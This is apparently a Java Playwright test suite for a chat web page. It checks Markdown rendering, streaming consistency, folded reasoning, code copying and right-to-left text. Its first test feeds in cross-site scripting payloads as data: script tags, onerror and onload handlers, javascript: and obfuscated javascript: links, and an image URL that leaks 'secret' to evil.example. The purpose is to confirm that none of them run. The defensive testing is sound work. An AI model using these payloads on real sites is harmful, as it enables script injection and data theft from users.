package dev.tandem.gateway;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import dev.tandem.testing.Script;
import dev.tandem.v1.Delta;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;

/** How the chat page shows what a model says: as Markdown, and never as code that runs. */
@DisabledOnOs(OS.WINDOWS)
class BrowserChatTextsIT extends ScriptedChat {
    @Test
    void textsOfTheModelNeverBecomeCode() {
        script =
                Script.saying(
                        "<script>window.hacked = 1</script>\n\n",
                        "<img src=x onerror=\"window.hacked = 2\">\n\n",
                        "[run](javascript:window.hacked=3) [data](data:text/html,<script>1</script>)\n\n",
                        "[own](/docs) [vb](vbscript:x) [hidden](java&#x73;cript:window.hacked=4)\n\n",
                        "<svg/onload=window.hacked=5> <a href=\"javascript:1\">a</a>\n\n",
                        "![tell](https://evil.example/?q=secret)\n\n",
                        "`<b>`\n\n```html\n<i onclick=\"window.hacked = 6\">x</i>\n```\n\n",
                        "[good](https://example.com/a?b=c) <https://example.com/>");
        chat.ask("<script>window.hacked = 7</script><img src=x onerror=alert(1)>").settled();

        assertThat(chat.page().evaluate("() => window.hacked")).isNull();
        assertThat(chat.text().locator("script, img, svg, iframe, [onerror], [onclick]"))
                .hasCount(0);
        assertThat(chat.text()).containsText("<script>window.hacked = 1</script>");
        assertThat(chat.text()).containsText("<img src=x onerror=");
        assertThat(chat.text()).containsText("<i onclick=\"window.hacked = 6\">x</i>");
        List<?> links =
                (List<?>)
                        chat.text()
                                .locator("a")
                                .evaluateAll(
                                        "all => all.map(a => a.getAttribute('href') + ' ' + a.rel + ' ' + a.target)");
        String safe = " noopener noreferrer nofollow _blank";
        assertThat(links)
                .isEqualTo(
                        List.of(
                                "https://evil.example/?q=secret" + safe,
                                "https://example.com/a?b=c" + safe,
                                "https://example.com/" + safe));
        assertThat(chat.page().locator(".said")).containsText("<script>window.hacked = 7");
        assertThat(chat.troubles()).as("nothing was asked of another host").isEmpty();
    }

    @Test
    void noScriptOfThePageCouldMakeHtmlOfAText() {
        assertThat(
                        chat.page()
                                .evaluate(
                                        "() => { try { document.createElement('div').innerHTML = '<b>'; return 'made'; } catch (e) { return e.name; } }"))
                .isEqualTo("TypeError");
    }

    @Test
    void markdownIsShown() {
        script =
                Script.saying(
                        "# Title\n\nSome **bold**, *slanted*, ~~gone~~ and `code`.\nNext line.\n\n",
                        "1. one\n2. two\n   - deeper\n\n> said\n\n",
                        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\n\n",
                        "```java\nint x = 1;\n```\n\nSee [it][here].\n\n[here]: https://example.com/ref");
        chat.ask("Show all").settled();

        for (String element :
                List.of(
                        "h3",
                        "strong",
                        "em",
                        "s",
                        "p > code",
                        "br",
                        "ol > li",
                        "li ul",
                        "blockquote",
                        "td",
                        "hr",
                        "pre")) {
            assertThat(chat.text().locator(element).first()).isAttached();
        }
        assertThat(chat.text().locator("figcaption")).containsText("java");
        assertThat(chat.text().locator("pre code")).hasText("int x = 1;\n");
        assertThat(
                        chat.text()
                                .getByText(
                                        "it",
                                        new com.microsoft.playwright.Locator.GetByTextOptions()
                                                .setExact(true)))
                .hasAttribute("href", "https://example.com/ref");
    }

    /** The same text must look the same whether it came at once or in pieces. */
    @Test
    void piecesMakeWhatTheWholeMakes() {
        String whole =
                "- a\n- b\n\n  c\n\ntext\n===\n\n```\ncode\n\n# no title\n```\n| x |\n|---|\n| y |\n\n[l]\n\n1. z\n\n[l]: https://example.com/";
        script = Script.saying(whole.split("(?<=\\G.{1})", -1));
        chat.ask("In pieces").settled();
        String pieces = chat.text().innerHTML();
        script = Script.saying(whole);
        chat.ask("At once").settled();

        assertThat(chat.text().innerHTML()).isEqualTo(pieces);
    }

    @Test
    void aLongAnswerLeavesThePageUsable() {
        String[] tokens = new String[12_000];
        for (int i = 0; i < tokens.length; i++) {
            tokens[i] = i % 40 == 39 ? ".\n\n" : i % 400 == 0 ? "\n\n```\nx\n```\n\n" : " word" + i;
        }
        script = Script.saying(tokens);
        chat.page()
                .evaluate(
                        "() => { window.longest = 0; new PerformanceObserver(list => list.getEntries().forEach(e => window.longest = Math.max(window.longest, e.duration))).observe({type: 'longtask'}); }");
        chat.ask("Very long").settled();

        assertThat(chat.text()).containsText("word11998");
        assertThat(((Number) chat.page().evaluate("() => window.longest")).doubleValue())
                .as("the longest time in which nothing else could happen, in ms")
                .isLessThan(2000);
    }

    @Test
    void thoughtsAreFolded() {
        script =
                Script.empty()
                        .delta(
                                0,
                                Delta.newBuilder()
                                        .putExtra("reasoning_content", "\"First, \"")
                                        .build())
                        .delta(
                                0,
                                Delta.newBuilder()
                                        .putExtra("reasoning_content", "\"I think.\"")
                                        .build())
                        .say("Done.");
        chat.ask("Think").settled();

        assertThat(chat.text()).hasText("Done.");
        assertThat(chat.page().getByText("First, I think.")).isHidden();
        chat.page().getByText("Thoughts").click();
        assertThat(chat.page().getByText("First, I think.")).isVisible();
    }

    @Test
    void codeIsCopied() {
        chat.page().context().grantPermissions(List.of("clipboard-read", "clipboard-write"));
        script = Script.saying("```sh\nls -l\n```\n");
        chat.ask("Code").settled();
        chat.button("Copy code").click();
        assertThat(chat.button("Copy code")).hasText("Copied");
        assertThat(chat.page().evaluate("() => navigator.clipboard.readText()"))
                .as("without the line's end, at which a terminal would run it")
                .isEqualTo("ls -l");
    }

    @Test
    void aPictureInALinkMakesNoLinkInALink() {
        script = Script.saying("[![a cat](https://a.example/1.png)](https://b.example/2)");
        chat.ask("Show").settled();

        assertThat(chat.text().locator("a")).hasCount(1);
        assertThat(chat.text().locator("a")).hasText("Picture: a cat");
        assertThat(chat.text().locator("a")).hasAttribute("href", "https://b.example/2");
    }

    @Test
    void whatIsWrittenFromRightToLeftStandsSo() {
        script = Script.saying("مرحبا\n\n```\nx = 1;\n```\n");
        chat.ask("שלום").settled();

        String direction = "each => getComputedStyle(each).direction";
        assertThat(chat.page().locator(".said").evaluate(direction)).isEqualTo("rtl");
        assertThat(chat.text().locator("p").evaluate(direction)).isEqualTo("rtl");
        assertThat(chat.text().locator("pre").evaluate(direction)).isEqualTo("ltr");
    }

    @Test
    void anAnswerWithoutAWordSaysSo() {
        script = Script.empty();
        chat.ask("Hi").settled();

        assertThat(chat.answer()).containsText("The answer is empty.");
        assertThat(chat.page().locator("#announcements")).containsText("The answer is empty.");
    }
}
